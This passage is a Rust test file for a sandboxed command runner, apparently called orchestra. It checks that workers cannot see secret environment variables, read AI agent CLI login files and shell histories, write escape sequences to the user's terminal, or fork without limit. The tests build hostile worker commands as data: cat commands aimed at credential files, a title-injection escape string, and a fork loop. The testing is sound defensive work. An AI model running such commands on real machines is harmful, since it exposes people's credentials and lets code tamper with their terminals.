    env.push(("MY_TOOL_SETTING", "tool-setting-kept"));
    env.push(("LC_TIME", "C"));
    let (out, marks) = run_recording_envs(
        &repo,
        "Env",
        |m| {
            format!(
                "[worktree]\nsetup = \"env > {m}/setup\"\n\n[sandbox]\nenv = [\"MY_TOOL_SETTING\", \"DB_PASSWORD\"]\n",
                m = m.display()
            )
        },
        "setup",
        &env,
    );
    assert!(out.status.success(), "{}", text(&out));
    for kind in ["worker", "setup", "validation"] {
        let seen = std::fs::read_to_string(marks.join(kind)).unwrap();
        assert!(seen.contains("ORCHESTRA_PACKET=p1"), "{kind}: {seen}");
        for (name, value) in THIRD_PARTY_SECRETS {
            assert!(
                !seen.contains(value) && !seen.contains(&format!("\n{name}=")),
                "{kind} saw {name}: {seen}"
            );
        }
        // What tools need stays; a name the user's configuration adds is passed on (the
        // repository's own list may only narrow the user's).
        for kept in [
            "PATH=",
            "HOME=",
            "LC_TIME=C",
            "MY_TOOL_SETTING=tool-setting-kept",
        ] {
            assert!(seen.contains(kept), "{kind} lacks {kept}: {seen}");
        }
    }
}

#[test]
fn a_sandboxed_worker_cannot_read_agent_cli_logins_or_shell_histories() {
    let repo = TestRepo::new();
    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap());
    let planted = [
        (".claude/.credentials.json", "claude-login-5f1"),
        (".codex/auth.json", "codex-login-5f2"),
        (".gemini/oauth_creds.json", "gemini-login-5f3"),
        (".local/share/opencode/auth.json", "opencode-login-5f4"),
        (".bash_history", "export SECRET=history-5f5"),
        (".zsh_history", "history-5f6"),
        (".python_history", "history-5f7"),
        (".psql_history", "history-5f8"),
    ];
    let mut worker = String::new();
    for (path, secret) in planted {
        let file = home.join(path);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, secret).unwrap();
        worker.push_str(&format!("cat {} >> out.txt 2>/dev/null; ", file.display()));
    }
    // A readable neighbour proves the worker did look in the home directory.
    std::fs::write(home.join(".profile-marker"), "neighbour-readable").unwrap();
    worker.push_str(&format!(
        "cat {} >> out.txt; echo ran >> out.txt",
        home.join(".profile-marker").display()
    ));
    let (out, v, branch) = run_scoped(&repo, &worker);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(v["packets"][0]["state"], "succeeded", "{v}");
    let landed = repo.git(&["show", &format!("{branch}:out.txt")]);
    assert!(landed.contains("neighbour-readable"), "{landed}");
    for (path, secret) in planted {
        assert!(!landed.contains(secret), "{path} was read: {landed}");
    }
}

/// Opens a pseudo-terminal and returns its master and the path of its slave.
fn open_pty() -> (std::fs::File, std::path::PathBuf) {
    use std::os::fd::FromRawFd;
    // SAFETY: posix_openpt returns a new descriptor or -1; grantpt, unlockpt and ptsname_r only
    // act on it and on the buffer given.
    unsafe {
        let master = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY | libc::O_NONBLOCK);
        assert!(
            master >= 0,
            "posix_openpt: {}",
            std::io::Error::last_os_error()
        );
        assert_eq!(libc::grantpt(master), 0);
        assert_eq!(libc::unlockpt(master), 0);
        let mut name = [0 as libc::c_char; 128];
        assert_eq!(libc::ptsname_r(master, name.as_mut_ptr(), name.len()), 0);
        let slave = std::ffi::CStr::from_ptr(name.as_ptr())
            .to_string_lossy()
            .into_owned();
        (std::fs::File::from_raw_fd(master), slave.into())
    }
}

#[test]
fn a_sandboxed_command_cannot_write_to_the_users_terminal() {
    use std::io::Read;
    use std::os::unix::process::CommandExt;
    let repo = TestRepo::new();
    let (mut master, slave) = open_pty();
    // Held open here too, so what reached the terminal stays readable after the run.
    let _held = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(&slave)
        .unwrap();
    let plan = one_packet_plan(
        &repo,
        "Tty",
        "\"printf 'VALIDATION-ESC\\\\033]0;pwned\\\\007' > /dev/tty; true\"",
    );
    let worker = "printf 'WORKER-ESC\\033]0;pwned\\007' > /dev/tty; echo tty=$? > out.txt";
    let root = repo.scratch().join("wt");
    let mut cmd = orchestra_command(
        &repo.path,
        &[
            "run",
            plan.to_str().unwrap(),
            "--worker-cmd",
            worker,
            "--worktree-root",
            root.to_str().unwrap(),
        ],
    );
    let slave_c = std::ffi::CString::new(slave.to_str().unwrap()).unwrap();
    // SAFETY: setsid, open, ioctl and close are async-signal-safe; the path outlives the call.
    unsafe {
        cmd.pre_exec(move || {
            libc::setsid();
            let fd = libc::open(slave_c.as_ptr(), libc::O_RDWR);
            if fd < 0 || libc::ioctl(fd, libc::TIOCSCTTY, 0) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            libc::close(fd);
            Ok(())
        });
    }
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let mut seen = Vec::new();
    let mut buf = [0u8; 4096];
    while let Ok(n) = master.read(&mut buf) {
        if n == 0 {
            break;
        }
        seen.extend_from_slice(&buf[..n]);
    }
    let seen = String::from_utf8_lossy(&seen);
    assert!(
        !seen.contains("WORKER-ESC"),
        "the worker reached the terminal: {seen:?}"
    );
    assert!(
        !seen.contains("VALIDATION-ESC"),
        "a validation command reached the terminal: {seen:?}"
    );
    let v = status_json(&repo.path);
    let branch = v["packets"][0]["branch"].as_str().unwrap();
    let landed = repo.git(&["show", &format!("{branch}:out.txt")]);
    assert!(landed.starts_with("tty=") && landed != "tty=0", "{landed}");
}

#[test]
fn max_processes_bounds_a_fork_loop_even_as_root() {
    let repo = TestRepo::new();
    repo.user_config("[sandbox]\nmax_processes = 20\n");
    // Sixty children that each live two seconds: the command counts the forks that succeed.
    let worker = r#"perl -e 'my $n = 0; for (1..60) { my $p = fork; next unless defined $p; if ($p == 0) { sleep 2; exit 0 } $n++ } open my $f, ">", "out.txt"; print $f $n;'"#;
    let (out, v, branch) = run_scoped(&repo, worker);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(v["packets"][0]["state"], "succeeded", "{v}");
    let forks: u32 = repo
        .git(&["show", &format!("{branch}:out.txt")])
        .parse()
        .unwrap();
    assert!(forks > 0 && forks <= 20, "{forks} processes were started");
}

/// Writes an executable worker script under a directory outside every tree the sandbox lets
/// a command read, and returns the directory and the script.
fn tool_outside_the_sandbox(repo: &TestRepo) -> (std::path::PathBuf, std::path::PathBuf) {
    use std::os::unix::fs::PermissionsExt;
    let tools = repo.scratch().join("tools");
    std::fs::create_dir_all(&tools).unwrap();
    let script = tools.join("run.sh");
    std::fs::write(&script, "#!/bin/sh\necho ran > out.txt\n").unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    (tools, script)
}

#[test]
fn a_worker_command_the_sandbox_cannot_read_names_the_sandbox_the_path_and_the_setting() {
    let repo = TestRepo::new();
    let (tools, script) = tool_outside_the_sandbox(&repo);
    let (out, v, _) = run_scoped(&repo, script.to_str().unwrap());
    assert!(!out.status.success(), "{}", text(&out));
    assert_eq!(v["packets"][0]["state"], "failed", "{v}");
    let reason = v["packets"][0]["reason"].as_str().unwrap();
    assert!(reason.contains("sandbox denied"), "{reason}");
    assert!(
        reason.contains(&format!("[sandbox] read = [\"{}\"]", tools.display())),
        "{reason}"
    );
    assert!(reason.contains("config.toml"), "{reason}");
}

#[test]
fn a_worker_command_under_a_directory_granted_by_sandbox_read_runs() {
    let repo = TestRepo::new();
    let (tools, script) = tool_outside_the_sandbox(&repo);
    repo.user_config(&format!("[sandbox]\nread = [\"{}\"]\n", tools.display()));
    let (out, v, _) = run_scoped(&repo, script.to_str().unwrap());
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(v["packets"][0]["state"], "succeeded", "{v}");
}

#[test]
fn a_validation_command_the_sandbox_cannot_read_names_the_path_and_the_setting() {
    let repo = TestRepo::new();
    let (tools, script) = tool_outside_the_sandbox(&repo);
    let plan = one_packet_plan(&repo, "Denied", &format!("\"{}\"", script.display()));
    let out = repo.run_plan(&plan, "echo x > out.txt", &["--json"]);
    assert!(!out.status.success(), "{}", text(&out));
    let v = status_json(&repo.path);
    assert_eq!(v["packets"][0]["state"], "failed", "{v}");
    let reason = v["packets"][0]["reason"].as_str().unwrap();
    assert!(reason.contains("sandbox denied"), "{reason}");
    assert!(
        reason.contains(&format!("[sandbox] read = [\"{}\"]", tools.display())),
        "{reason}"
    );
}
